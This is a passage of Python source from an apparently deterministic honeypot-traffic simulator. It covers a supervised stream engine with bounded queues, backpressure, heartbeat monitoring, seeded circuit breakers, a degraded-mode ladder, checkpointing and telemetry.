        full queue force-drains its oldest entry under critical
        backpressure so memory stays bounded and order stays FIFO.
        """
        if self._partitioned and record.honeypot_id in self._partitioned:
            self._partition_buffer.append(record)
            self._partition_buffered += 1
            return False
        self._event += 1
        event = self._event
        self._now += self._tick
        now = self._now
        day = self._ordinal
        if self._stall_at is not None and event >= self._stall_at:
            self._stall_at = None
            self._stall_until = now + self._stall_s
            self._stalls += 1
        queue = self.supervisor.queue
        if self._stall_until is not None:
            if now >= self._stall_until:
                self._stall_until = None
            else:
                if queue.full:
                    self._on_queue_pressure(day, event)
                    queue.forced_drains += 1
                    self._process(queue.pop())
                queue.push(record)
                self._on_queue_pressure(day, event)
                self._check_heartbeats(now, day, event)
                return False
        if queue.depth:
            # The stall just lifted: the backlog is older than this
            # record, so drain it first to keep delivery FIFO.
            self._pump(day, event)
        return self._process(record)

    def _pump(self, day: int, event: int) -> None:
        """Drain the inter-stage queue FIFO through the consumer."""
        queue = self.supervisor.queue
        while queue.depth:
            self._process(queue.pop())
        self._on_queue_pressure(day, event)

    def _process(self, record) -> bool:
        """Consumer side: ingest stage (deliver) then analysis stage."""
        supervisor = self.supervisor
        now = self._now
        day = self._ordinal
        event = self._event
        stored = self.channel.deliver(record)
        ingest = supervisor.breakers[STAGE_INGEST]
        if ingest.state != CLOSED and ingest.allow(now, day, event):
            # the half-open probe: a delivery that completed proves the
            # ingest path healthy again
            ingest.record_success(now, day, event)
            if ingest.state == CLOSED:
                supervisor.recover("ingest-probe-succeeded", day, event)
                self._sync_admission()
        heartbeat = supervisor.heartbeat
        if heartbeat is not None:
            heartbeat.beat(STAGE_INGEST, now - self._skew)
        if stored:
            self._analysis_stage(record, now, day, event)
        if heartbeat is not None:
            heartbeat.beat(STAGE_ANALYSIS, now - self._skew)
            self._check_heartbeats(now, day, event)
        return stored

    def _analysis_stage(
        self, record, now: float, day: int, event: int
    ) -> None:
        supervisor = self.supervisor
        if supervisor.mode == MODE_SHED_ONLY:
            # shed-only outranks analysis: all analysis work is deferred
            self._analysis_deferred += 1
            return
        breaker = supervisor.breakers[STAGE_ANALYSIS]
        if not breaker.allow(now, day, event):
            self._analysis_deferred += 1
            return
        if (
            self._error_left > 0
            and self._error_at is not None
            and event >= self._error_at
        ):
            self._error_left -= 1
            self._analysis_errors += 1
            breaker.record_failure(now, day, event, reason="analysis-error")
            if breaker.state != CLOSED:
                supervisor.escalate(
                    MODE_ANALYSIS_DEFERRED, "analysis-breaker-open",
                    day, event,
                )
            return
        breaker.record_success(now, day, event)
        if breaker.state == CLOSED:
            supervisor.recover("analysis-probe-succeeded", day, event)
        self._analysis_observed += 1
        if self.clusterer is not None and record.commands:
            from repro.analysis.tokenizer import tokenize_session

            self.clusterer.observe(tuple(tokenize_session(record)))

    # ------------------------------------------------------------------
    # backpressure and heartbeats
    # ------------------------------------------------------------------
    def _on_queue_pressure(self, day: int, event: int) -> None:
        """React to the queue's current depth level."""
        supervisor = self.supervisor
        if (
            supervisor.queue.level() == LEVEL_CRITICAL
            and supervisor.mode != MODE_SHED_ONLY
        ):
            supervisor.breakers[STAGE_INGEST].trip(
                self._now, day, event, "queue-critical"
            )
            supervisor.escalate(MODE_SHED_ONLY, "queue-critical", day, event)
        self._sync_admission()

    def _sync_admission(self) -> None:
        """Propagate the effective backpressure level into the gate."""
        supervisor = self.supervisor
        level = supervisor.queue.level()
        if supervisor.mode == MODE_SHED_ONLY:
            level = LEVEL_CRITICAL
        if level != self._pressure_applied:
            self._pressure_applied = level
            admission = self.collector.admission
            if admission is not None:
                admission.apply_backpressure(level)

    def _check_heartbeats(self, now: float, day: int, event: int) -> None:
        supervisor = self.supervisor
        heartbeat = supervisor.heartbeat
        if heartbeat is None:
            return
        for stage in STAGES:
            if heartbeat.check(stage, now) == BEAT_HARD:
                supervisor.breakers[stage].trip(
                    now, day, event, "heartbeat-hard"
                )
                if stage == STAGE_INGEST:
                    supervisor.escalate(
                        MODE_SHED_ONLY, "heartbeat-hard", day, event
                    )
                    self._sync_admission()
                else:
                    supervisor.escalate(
                        MODE_ANALYSIS_DEFERRED, "heartbeat-hard", day, event
                    )

    # ------------------------------------------------------------------
    # day boundaries
    # ------------------------------------------------------------------
    def _begin_day(self, day: date) -> None:
        if self.supervisor is None:
            return
        self._ordinal = day.toordinal()
        self._event = 0
        plan = INERT_DAY_PLAN
        if self._fault_tree is not None:
            plan = compile_day_plan(
                self.policy.faults, self._fault_tree, day, self._sensor_ids
            )
        self._stall_at = plan.stall_at_event
        self._stall_s = plan.stall_virtual_s
        self._stall_until = None
        self._error_at = plan.error_at_event
        self._error_left = plan.error_run
        self._skew = plan.clock_skew_s
        self._partitioned = plan.partitioned
        self._partition_buffer = []
        if self._skew:
            self._skew_days += 1
        heartbeat = self.supervisor.heartbeat
        if heartbeat is not None:
            heartbeat.reset(self._now - self._skew)
        self._sync_admission()

    def _drain_day(self, day: date) -> None:
        """Heal partitions and drain the backlog before the day closes.

        Partitioned sensors reconnect and replay their buffered records
        in original arrival order (delayed, never lost); a stall that
        outlived the day's arrivals is waited out on the virtual clock
        so the queue empties before the admission gate drains.
        """
        if self.supervisor is None:
            return
        if self._partition_buffer:
            buffered = self._partition_buffer
            self._partition_buffer = []
            self._partitioned = frozenset()
            self._partition_replayed += len(buffered)
            for record in buffered:
                self._push(record)
        else:
            self._partitioned = frozenset()
        if self._stall_until is not None:
            self._now = max(self._now, self._stall_until)
            self._stall_until = None
        if self.supervisor.queue.depth:
            self._pump(self._ordinal, self._event)
        self._on_queue_pressure(self._ordinal, self._event)

    def _end_day(self, day: date) -> None:
        """Supervision bookkeeping after the collector's day boundary."""
        if self.supervisor is None:
            return
        self.supervisor.recover(
            "day-boundary-recovery", self._ordinal, self._event
        )
        self._sync_admission()
        self.ledger.audit(self.collector, day)
        self._days_seen += 1
        self._event_total += self._event
        self._flush_stream_telemetry()
        self._emit_gauges()

    # ------------------------------------------------------------------
    # telemetry
    # ------------------------------------------------------------------
    def _stream_telemetry_state(self) -> list[tuple[str, int]]:
        supervisor = self.supervisor
        queue = supervisor.queue
        state = [
            ("stream.days", self._days_seen),
            ("stream.events", self._event_total),
            ("stream.queue.pushed", queue.pushed),
            ("stream.queue.popped", queue.popped),
            ("stream.queue.forced_drains", queue.forced_drains),
            ("stream.stalls", self._stalls),
            ("stream.partition.buffered", self._partition_buffered),
            ("stream.partition.replayed", self._partition_replayed),
            ("stream.analysis.observed", self._analysis_observed),
            ("stream.analysis.deferred", self._analysis_deferred),
            ("stream.analysis.errors", self._analysis_errors),
            ("stream.skew.days", self._skew_days),
            ("stream.ledger.days_balanced", self.ledger.days),
        ]
        heartbeat = supervisor.heartbeat
        if heartbeat is not None:
            state.append(
                ("stream.heartbeat.soft_breaches", heartbeat.soft_breaches)
            )
            state.append(
                ("stream.heartbeat.hard_breaches", heartbeat.hard_breaches)
            )
        return state

    def _flush_stream_telemetry(self) -> None:
        """Emit per-day deltas of the stream counters (batch-granular,
        mirroring :meth:`Collector.flush_telemetry`)."""
        registry = telemetry.active()
        flushed = self._tel_flushed
        for name, current in self._stream_telemetry_state():
            delta = current - flushed.get(name, 0)
            if delta:
                if registry is not None:
                    registry.count(name, delta)
                flushed[name] = current

    def _emit_gauges(self) -> None:
        """Live overload gauges at the day boundary (timing-class data:
        excluded from the comparable telemetry view by design)."""
        collector = self.collector
        telemetry.gauge(
            "overload.queue_peak_depth", self.supervisor.queue.peak_depth
        )
        telemetry.gauge(
            "overload.backpressure_level", self._pressure_applied
        )
        if collector.admission is not None and collector.generated:
            telemetry.gauge(
                "overload.shed_rate",
                collector.shed / collector.generated,
            )
        telemetry.gauge("stream.coverage_rate", self.ledger.coverage_rate)

    # ------------------------------------------------------------------
    # checkpoint glue
    # ------------------------------------------------------------------
    def _stream_state(self) -> dict | None:
        """The supervision state a checkpoint must carry, or None.

        None whenever supervision is in its pristine state — which is
        every checkpoint of a fault-free run — so supervised fault-free
        checkpoints stay byte-identical to batch checkpoints.
        """
        if self.supervisor is None or not self.supervisor.dirty:
            return None
        state = self.supervisor.snapshot()
        state["clock"] = self._now
        state["faults"] = repr(self.policy.faults)
        state["ledger"] = self.ledger.snapshot()
        return state

    def _restore_stream_state(self, state: dict) -> None:
        recorded = state.get("faults")
        if recorded is not None and recorded != repr(self.policy.faults):
            raise ValueError(
                "checkpoint records a different stream fault configuration "
                f"({recorded}) than this run's ({self.policy.faults!r}); "
                "resume with the profile that wrote it"
            )
        self.supervisor.restore(state)
        clock = state.get("clock")
        if clock is not None:
            self._now = float(clock)
        ledger = state.get("ledger")
        if ledger is not None:
            self.ledger.restore(ledger)
        self._sync_admission()

    def _report(self) -> StreamReport:
        supervisor = self.supervisor
        heartbeat = supervisor.heartbeat
        return StreamReport(
            mode=supervisor.mode,
            transitions=list(supervisor.transitions),
            breaker_transitions={
                stage: list(breaker.transitions)
                for stage, breaker in supervisor.breakers.items()
            },
            days=self._days_seen,
            events=self._event_total,
            queue_peak_depth=supervisor.queue.peak_depth,
            forced_drains=supervisor.queue.forced_drains,
            stalls=self._stalls,
            partition_buffered=self._partition_buffered,
            partition_replayed=self._partition_replayed,
            analysis_observed=self._analysis_observed,
            analysis_deferred=self._analysis_deferred,
            analysis_errors=self._analysis_errors,
            heartbeat_soft_breaches=(
                heartbeat.soft_breaches if heartbeat is not None else 0
            ),
            heartbeat_hard_breaches=(
                heartbeat.hard_breaches if heartbeat is not None else 0
            ),
            skew_days=self._skew_days,
            ledger_days=self.ledger.days,
            coverage_rate=self.ledger.coverage_rate,
            online_clusters=(
                len(self.clusterer.clusters)
                if self.clusterer is not None
                else None
            ),
            ledger_verdict=self.ledger.verdict(),
        )

    # ------------------------------------------------------------------
    # the run loop (the one code path: stream, and batch as its replay)
    # ------------------------------------------------------------------
    def run(
        self,
        *,
        checkpoint_path: Path | str | None = None,
        checkpoint_every_days: int | None = None,
        resume: bool = False,
        stop_after: date | None = None,
    ) -> SimulationResult:
        base = self.base
        config = base.config
        collector = self.collector
        channel = self.channel
        honeynet = base.honeynet

        first_day = config.start
        if resume:
            stream_sink: list[dict] = []
            restored = _resume_state(
                checkpoint_path, config, honeynet, collector,
                stream_sink=stream_sink,
            )
            if restored is not None:
                first_day = restored
            if stream_sink:
                if self.supervisor is None:
                    raise ValueError(
                        "checkpoint records a degraded stream state; resume "
                        "it with a supervised stream policy, not batch replay"
                    )
                self._restore_stream_state(stream_sink[0])
        corruptor = None
        if checkpoint_path is not None:
            corruptor = base.checkpoint_corruptor()
            if checkpoint_every_days is None:
                checkpoint_every_days = DEFAULT_CHECKPOINT_EVERY_DAYS

        started = time.monotonic()
        logger.info(
            "simulating %s..%s at scale=%g with %d bots on %d honeypots "
            "(fault profile: %s)",
            first_day, config.end, config.scale, len(base.bots),
            len(honeynet.honeypots), config.faults.name,
        )

        deliver = (
            channel.deliver if self.supervisor is None else self._push
        )
        current_month: str | None = None
        days_done = 0
        days = (
            days_between(first_day, config.end)
            if first_day <= config.end
            else iter(())
        )
        with telemetry.span("sim.run"):
            for day in days:
                month = month_key(day)
                if month != current_month:
                    if current_month is not None:
                        logger.debug(
                            "month %s done (%d sessions so far)",
                            current_month, len(collector.sessions),
                        )
                    current_month = month
                self._begin_day(day)
                with telemetry.span("sim.day"):
                    simulate_day(base, day, deliver)
                    self._drain_day(day)
                # Day boundary: release deferred records before any
                # checkpoint below — the deferral queues are intra-day
                # state and are never serialized.
                collector.end_of_day()
                channel.flush_telemetry()
                self._end_day(day)
                if self.publisher is not None:
                    self.publisher.publish_day(
                        collector,
                        day,
                        supervisor=self.supervisor,
                        ledger=(
                            self.ledger
                            if self.supervisor is not None
                            else None
                        ),
                    )
                days_done += 1
                stopping = stop_after is not None and day >= stop_after
                if checkpoint_path is not None and (
                    stopping or days_done % checkpoint_every_days == 0
                ):
                    save_checkpoint(
                        checkpoint_path, config, day + timedelta(days=1),
                        honeynet, collector, corruptor=corruptor,
                        stream_state=self._stream_state(),
                    )
                    telemetry.count("checkpoint.saves")
                    logger.debug("checkpointed through %s", day)
                if stopping:
                    logger.info("controlled stop after %s", day)
                    break

        result = _finish_result(base, collector, channel, started)
        if self.supervisor is not None:
            result.stream = self._report()
        return result


def run_stream(
    config: SimulationConfig,
    extra_bots_factory=None,
    *,
    policy: StreamPolicy | None = None,
    checkpoint_path: Path | str | None = None,
    checkpoint_every_days: int | None = None,
    resume: bool = False,
    stop_after: date | None = None,
    store_dir: Path | str | None = None,
    publisher=None,
) -> SimulationResult:
    """Run ``config`` through the (optionally supervised) stream engine.

    With ``policy=None`` (or :meth:`StreamPolicy.replay`) this *is* the
    batch serial engine — ``run_simulation(workers=1)`` delegates here.
    A supervised policy adds the robustness layer; a supervised
    fault-free policy still produces byte-identical digests, accounting
    and checkpoints.  Supervised results carry a :class:`StreamReport`
    on ``result.stream``.  ``publisher`` (a
    :class:`repro.service.SnapshotPublisher`) receives every day
    boundary; it observes, never mutates, so attaching one is
    digest-neutral.
    """
    if policy is None:
        policy = StreamPolicy.replay()
    substrate = build_substrate(config, extra_bots_factory)
    stream = StreamSubstrate(substrate, policy, publisher=publisher)
    result = stream.run(
        checkpoint_path=checkpoint_path,
        checkpoint_every_days=checkpoint_every_days,
        resume=resume,
        stop_after=stop_after,
    )
    if store_dir is not None:
        _export_store(result, store_dir)
    return result
