"""Stream supervision: heartbeats, the degraded-mode ladder, snapshots.

The supervisor owns the robustness state machine around the stream
engine's pipeline: one circuit breaker per stage, the bounded
inter-stage queue, a heartbeat monitor reusing the hung-worker
watchdog's :class:`~repro.overload.watchdog.DeadlinePolicy` (against
*virtual* time, so supervision is deterministic), and the explicit
degraded-mode ladder::

    full  →  analysis-deferred  →  shed-only

* ``full`` — ingest and incremental analysis both run.
* ``analysis-deferred`` — the analysis breaker is open: records are
  still collected (digest-neutral), analysis work is deferred and
  counted, a seeded half-open probe decides recovery.
* ``shed-only`` — ingest itself is in distress (queue at capacity, or
  the ingest breaker tripped): the admission gate is forced to its
  critical backpressure level and sheds everything over a zero
  effective budget until the breaker's probe succeeds or the day
  boundary drains the backlog.

Every transition is recorded with its day ordinal, event index and
trigger reason, and mirrored into ``stream.mode.*`` telemetry counters
— including one ``stream.mode.timeline.<day>.<from>-><to>.<reason>``
counter per transition, which is what the ``repro telemetry`` report's
degraded-mode timeline section is reconstructed from.

This module must not import :mod:`repro.config`.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro import telemetry
from repro.overload.watchdog import DeadlinePolicy
from repro.stream.breaker import CLOSED, CircuitBreaker
from repro.stream.queues import BoundedStreamQueue
from repro.util.rng import RngTree

#: Degraded-mode ladder rungs, mildest first.
MODE_FULL = "full"
MODE_ANALYSIS_DEFERRED = "analysis-deferred"
MODE_SHED_ONLY = "shed-only"

#: Escalation order: a higher rank always wins.
MODE_RANK = {
    MODE_FULL: 0,
    MODE_ANALYSIS_DEFERRED: 1,
    MODE_SHED_ONLY: 2,
}

#: Stage names supervised by the stream engine.
STAGE_INGEST = "ingest"
STAGE_ANALYSIS = "analysis"
STAGES = (STAGE_INGEST, STAGE_ANALYSIS)

#: Heartbeat verdicts.
BEAT_OK = "ok"
BEAT_SOFT = "soft"
BEAT_HARD = "hard"


@dataclass(frozen=True)
class ModeTransition:
    """One rung change of the degraded-mode ladder, in stream time."""

    day: int  #: calendar day ordinal
    event: int  #: event index within the day
    from_mode: str
    to_mode: str
    reason: str

    def as_dict(self) -> dict:
        return {
            "day": self.day,
            "event": self.event,
            "from": self.from_mode,
            "to": self.to_mode,
            "reason": self.reason,
        }

    @classmethod
    def from_dict(cls, payload: dict) -> "ModeTransition":
        return cls(
            day=int(payload["day"]),
            event=int(payload["event"]),
            from_mode=str(payload["from"]),
            to_mode=str(payload["to"]),
            reason=str(payload["reason"]),
        )


@dataclass
class HeartbeatMonitor:
    """Stage liveness against virtual time, via the watchdog's policy.

    Each processed event beats its stage; :meth:`check` grades the
    staleness of the last beat against the soft/hard deadlines of a
    :class:`~repro.overload.watchdog.DeadlinePolicy`.  Breaches are
    counted once per *episode* (per escalation since the last healthy
    check), not once per event, so a skewed day yields one soft and one
    hard alarm — deterministic and bounded.
    """

    policy: DeadlinePolicy
    beats: dict[str, float] = field(default_factory=dict)
    soft_breaches: int = 0
    hard_breaches: int = 0
    _level: dict[str, str] = field(default_factory=dict, repr=False)

    def reset(self, now: float) -> None:
        """Stamp every stage alive at ``now`` (day start / resume)."""
        for stage in STAGES:
            self.beats[stage] = now
            self._level[stage] = BEAT_OK

    def beat(self, stage: str, at: float) -> None:
        self.beats[stage] = at

    def check(self, stage: str, now: float) -> str | None:
        """Grade ``stage``'s staleness; returns a *new* breach or None.

        ``BEAT_SOFT``/``BEAT_HARD`` is returned only on escalation —
        repeated checks inside one episode return None.
        """
        staleness = now - self.beats.get(stage, now)
        if staleness >= self.policy.hard_s:
            level = BEAT_HARD
        elif staleness >= self.policy.soft_s:
            level = BEAT_SOFT
        else:
            level = BEAT_OK
        previous = self._level.get(stage, BEAT_OK)
        if level == previous:
            return None
        self._level[stage] = level
        if level == BEAT_SOFT and previous == BEAT_OK:
            self.soft_breaches += 1
            return BEAT_SOFT
        if level == BEAT_HARD and previous != BEAT_HARD:
            self.hard_breaches += 1
            return BEAT_HARD
        return None


@dataclass
class StreamSupervisor:
    """Owns breakers, queue, heartbeats and the mode ladder for one run."""

    tree: RngTree
    queue: BoundedStreamQueue
    breakers: dict[str, CircuitBreaker]
    heartbeat: HeartbeatMonitor | None
    mode: str = MODE_FULL
    transitions: list[ModeTransition] = field(default_factory=list)

    @classmethod
    def build(
        cls,
        tree: RngTree,
        *,
        queue_capacity: int,
        high_watermark: int,
        failure_threshold: int,
        recovery_s: float,
        max_backoff_s: float,
        heartbeat_policy: DeadlinePolicy | None,
    ) -> "StreamSupervisor":
        breaker_tree = tree.child("breaker")
        return cls(
            tree=tree,
            queue=BoundedStreamQueue(
                name="ingest-analysis",
                capacity=queue_capacity,
                high_watermark=high_watermark,
            ),
            breakers={
                stage: CircuitBreaker(
                    stage=stage,
                    tree=breaker_tree,
                    failure_threshold=failure_threshold,
                    recovery_s=recovery_s,
                    max_backoff_s=max_backoff_s,
                )
                for stage in STAGES
            },
            heartbeat=(
                HeartbeatMonitor(heartbeat_policy)
                if heartbeat_policy is not None
                else None
            ),
        )

    # ------------------------------------------------------------------
    # the mode ladder
    # ------------------------------------------------------------------
    def set_mode(
        self, to_mode: str, reason: str, day: int, event: int
    ) -> bool:
        """Move to ``to_mode`` (any direction); records and counts.

        Returns True iff the mode actually changed.  Telemetry: every
        transition bumps ``stream.mode.transitions`` and writes one
        timeline counter — rare events, so they are emitted directly
        rather than batched like the per-day counters.
        """
        if to_mode not in MODE_RANK:
            raise ValueError(f"unknown stream mode {to_mode!r}")
        if to_mode == self.mode:
            return False
        transition = ModeTransition(day, event, self.mode, to_mode, reason)
        self.transitions.append(transition)
        self.mode = to_mode
        registry = telemetry.active()
        if registry is not None:
            registry.count("stream.mode.transitions")
            registry.count(f"stream.mode.to.{to_mode}")
            registry.count(
                "stream.mode.timeline."
                f"{transition.day}.{transition.from_mode}->"
                f"{transition.to_mode}.{transition.reason}"
            )
        return True

    def escalate(
        self, to_mode: str, reason: str, day: int, event: int
    ) -> bool:
        """Raise the ladder to ``to_mode`` iff it outranks the current rung."""
        if MODE_RANK[to_mode] <= MODE_RANK[self.mode]:
            return False
        return self.set_mode(to_mode, reason, day, event)

    def recovery_target(self) -> str:
        """The mildest rung the current breaker states allow."""
        if self.breakers[STAGE_INGEST].state != CLOSED:
            return MODE_SHED_ONLY
        if self.breakers[STAGE_ANALYSIS].state != CLOSED:
            return MODE_ANALYSIS_DEFERRED
        return MODE_FULL

    def recover(self, reason: str, day: int, event: int) -> bool:
        """Step down to the mildest rung the breakers allow, if milder."""
        target = self.recovery_target()
        if MODE_RANK[target] >= MODE_RANK[self.mode]:
            return False
        return self.set_mode(target, reason, day, event)

    # ------------------------------------------------------------------
    # checkpoint snapshot/restore
    # ------------------------------------------------------------------
    @property
    def dirty(self) -> bool:
        """Does supervision state differ from a freshly built supervisor?

        Checked at day boundaries (queue drained, partitions healed), so
        only the durable pieces matter: the mode, each breaker's state
        and trip history, and the recorded timeline.
        """
        return (
            self.mode != MODE_FULL
            or bool(self.transitions)
            or any(breaker.dirty for breaker in self.breakers.values())
        )

    def snapshot(self) -> dict:
        return {
            "mode": self.mode,
            "transitions": [t.as_dict() for t in self.transitions],
            "breakers": {
                stage: breaker.snapshot()
                for stage, breaker in self.breakers.items()
            },
        }

    def restore(self, payload: dict) -> None:
        mode = str(payload.get("mode", MODE_FULL))
        if mode not in MODE_RANK:
            raise ValueError(f"unknown stream mode {mode!r} in checkpoint")
        self.mode = mode
        self.transitions = [
            ModeTransition.from_dict(t)
            for t in payload.get("transitions", [])
        ]
        for stage, state in payload.get("breakers", {}).items():
            if stage in self.breakers:
                self.breakers[stage].restore(state)
