"""Bounded inter-stage queues whose depth drives backpressure.

One queue sits between the ingest boundary (sensors pushing sessions)
and the analysis consumer.  On the healthy path it is pass-through —
every push is pumped synchronously, depth never exceeds one — so the
stream replays the batch day-loop byte for byte.  Under a consumer
stall the queue absorbs the backlog FIFO; its depth maps to a
backpressure level that the engine feeds into the admission controller
(:meth:`repro.overload.admission.AdmissionController.apply_backpressure`)
and, at the critical level, escalates the degraded-mode ladder to
``shed-only``.

This module must not import :mod:`repro.config`.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass, field

#: Backpressure levels derived from queue depth.
LEVEL_OK = 0
LEVEL_HIGH = 1
LEVEL_CRITICAL = 2


@dataclass
class BoundedStreamQueue:
    """A bounded FIFO between two stream stages, with depth accounting."""

    name: str
    capacity: int
    #: Depth at which backpressure rises to :data:`LEVEL_HIGH`.
    high_watermark: int
    _items: deque = field(default_factory=deque, init=False, repr=False)
    pushed: int = field(default=0, init=False)
    popped: int = field(default=0, init=False)
    peak_depth: int = field(default=0, init=False)
    #: Pops forced by a full queue while the consumer was stalled.
    forced_drains: int = field(default=0, init=False)

    def __post_init__(self) -> None:
        if self.capacity < 1:
            raise ValueError("capacity must be at least 1")
        if not 0 < self.high_watermark <= self.capacity:
            raise ValueError(
                "high_watermark must be in (0, capacity]"
            )

    @property
    def depth(self) -> int:
        return len(self._items)

    @property
    def full(self) -> bool:
        return len(self._items) >= self.capacity

    def push(self, item) -> None:
        if self.full:
            raise OverflowError(f"stream queue {self.name!r} is full")
        self._items.append(item)
        self.pushed += 1
        if len(self._items) > self.peak_depth:
            self.peak_depth = len(self._items)

    def pop(self):
        item = self._items.popleft()
        self.popped += 1
        return item

    def level(self) -> int:
        """The backpressure level this depth maps to."""
        depth = len(self._items)
        if depth >= self.capacity:
            return LEVEL_CRITICAL
        if depth >= self.high_watermark:
            return LEVEL_HIGH
        return LEVEL_OK
