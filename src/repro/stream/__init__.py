"""``repro.stream`` — the supervised event-stream engine.

The batch serial engine is this package under
:meth:`StreamPolicy.replay`; see :mod:`repro.stream.engine` for the
architecture and ``docs/streaming.md`` for the operator view.
"""

from repro.stream.breaker import (
    CLOSED,
    HALF_OPEN,
    OPEN,
    BreakerTransition,
    CircuitBreaker,
)
from repro.stream.engine import (
    RollingLedger,
    StreamIntegrityError,
    StreamReport,
    StreamSubstrate,
    run_stream,
)
from repro.stream.policy import StreamPolicy
from repro.stream.queues import (
    LEVEL_CRITICAL,
    LEVEL_HIGH,
    LEVEL_OK,
    BoundedStreamQueue,
)
from repro.stream.supervisor import (
    MODE_ANALYSIS_DEFERRED,
    MODE_FULL,
    MODE_RANK,
    MODE_SHED_ONLY,
    STAGE_ANALYSIS,
    STAGE_INGEST,
    STAGES,
    HeartbeatMonitor,
    ModeTransition,
    StreamSupervisor,
)

__all__ = [
    "CLOSED",
    "OPEN",
    "HALF_OPEN",
    "BreakerTransition",
    "CircuitBreaker",
    "RollingLedger",
    "StreamIntegrityError",
    "StreamReport",
    "StreamSubstrate",
    "run_stream",
    "StreamPolicy",
    "LEVEL_OK",
    "LEVEL_HIGH",
    "LEVEL_CRITICAL",
    "BoundedStreamQueue",
    "MODE_FULL",
    "MODE_ANALYSIS_DEFERRED",
    "MODE_SHED_ONLY",
    "MODE_RANK",
    "STAGE_INGEST",
    "STAGE_ANALYSIS",
    "STAGES",
    "HeartbeatMonitor",
    "ModeTransition",
    "StreamSupervisor",
]
