"""Per-stage circuit breakers with seeded, deterministic probe schedules.

The classic closed → open → half-open machine, with one twist that
keeps the whole supervision layer a pure function of the seed: time is
*virtual* (the stream engine advances a tick per processed event), and
the open-state backoff before a half-open probe is drawn from an
``RngTree`` stream keyed by ``(stage, trip count)`` — exponential base
backoff with seeded jitter, so the same seed always probes at the same
virtual instant, and two runs of the same config produce identical
transition timelines (``tests/test_stream.py`` pins this).

This module must not import :mod:`repro.config`.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.util.rng import RngTree

#: Breaker states.
CLOSED = "closed"
OPEN = "open"
HALF_OPEN = "half-open"


@dataclass(frozen=True)
class BreakerTransition:
    """One breaker state change, stamped in stream time."""

    day: int  #: calendar day ordinal
    event: int  #: event index within the day
    from_state: str
    to_state: str
    reason: str

    def as_dict(self) -> dict:
        return {
            "day": self.day,
            "event": self.event,
            "from": self.from_state,
            "to": self.to_state,
            "reason": self.reason,
        }

    @classmethod
    def from_dict(cls, payload: dict) -> "BreakerTransition":
        return cls(
            day=int(payload["day"]),
            event=int(payload["event"]),
            from_state=str(payload["from"]),
            to_state=str(payload["to"]),
            reason=str(payload["reason"]),
        )


@dataclass
class CircuitBreaker:
    """One stage's breaker; all timing in virtual seconds.

    ``failure_threshold`` consecutive failures open the breaker; while
    open, :meth:`allow` refuses work until the seeded probe instant,
    then admits exactly one half-open probe.  A successful probe closes
    the breaker; a failed one re-opens it with doubled backoff (capped
    at ``max_backoff_s``).  :meth:`trip` force-opens from any state —
    the heartbeat monitor's hard-breach hook.
    """

    stage: str
    tree: RngTree
    failure_threshold: int = 3
    recovery_s: float = 4.0
    max_backoff_s: float = 64.0
    state: str = CLOSED
    failures: int = 0
    trips: int = 0
    probe_at: float | None = None
    transitions: list[BreakerTransition] = field(default_factory=list)

    def _probe_delay(self) -> float:
        """Seeded backoff before the next half-open probe.

        Exponential in the trip count, jittered by the first draw of the
        ``(stage, trips)`` child stream into ``[0.5, 1.5)`` of the base —
        deterministic per (seed, stage, trip), never wall-clock.
        """
        base = min(
            self.recovery_s * (2 ** max(self.trips - 1, 0)),
            self.max_backoff_s,
        )
        return base * (0.5 + self.tree.coin(self.stage, self.trips))

    def _transition(
        self, to_state: str, reason: str, day: int, event: int
    ) -> None:
        self.transitions.append(
            BreakerTransition(day, event, self.state, to_state, reason)
        )
        self.state = to_state

    def _open(self, now: float, reason: str, day: int, event: int) -> None:
        self.trips += 1
        self.probe_at = now + self._probe_delay()
        self._transition(OPEN, reason, day, event)

    def allow(self, now: float, day: int, event: int) -> bool:
        """May the stage attempt work now?  Open → half-open when due."""
        if self.state == CLOSED:
            return True
        if self.state == OPEN:
            if self.probe_at is not None and now >= self.probe_at:
                self._transition(HALF_OPEN, "probe-due", day, event)
                return True
            return False
        return True  # half-open: the probe attempt is in flight

    def record_success(self, now: float, day: int, event: int) -> None:
        if self.state == HALF_OPEN:
            self.failures = 0
            self.probe_at = None
            self._transition(CLOSED, "probe-succeeded", day, event)
        elif self.state == CLOSED:
            self.failures = 0

    def record_failure(
        self, now: float, day: int, event: int, reason: str = "failure"
    ) -> None:
        if self.state == HALF_OPEN:
            self._open(now, "probe-failed", day, event)
        elif self.state == CLOSED:
            self.failures += 1
            if self.failures >= self.failure_threshold:
                self._open(now, reason, day, event)

    def trip(self, now: float, day: int, event: int, reason: str) -> None:
        """Force-open from any state (e.g. a heartbeat hard breach)."""
        if self.state != OPEN:
            self._open(now, reason, day, event)

    @property
    def dirty(self) -> bool:
        """Does this breaker carry state a checkpoint must preserve?

        Trip counts matter even after recovery: they drive the backoff
        of any *future* probe schedule.
        """
        return self.state != CLOSED or self.failures > 0 or self.trips > 0

    def snapshot(self) -> dict:
        return {
            "state": self.state,
            "failures": self.failures,
            "trips": self.trips,
            "probe_at": self.probe_at,
            "transitions": [t.as_dict() for t in self.transitions],
        }

    def restore(self, payload: dict) -> None:
        self.state = str(payload["state"])
        self.failures = int(payload["failures"])
        self.trips = int(payload["trips"])
        probe_at = payload.get("probe_at")
        self.probe_at = float(probe_at) if probe_at is not None else None
        self.transitions = [
            BreakerTransition.from_dict(t)
            for t in payload.get("transitions", [])
        ]
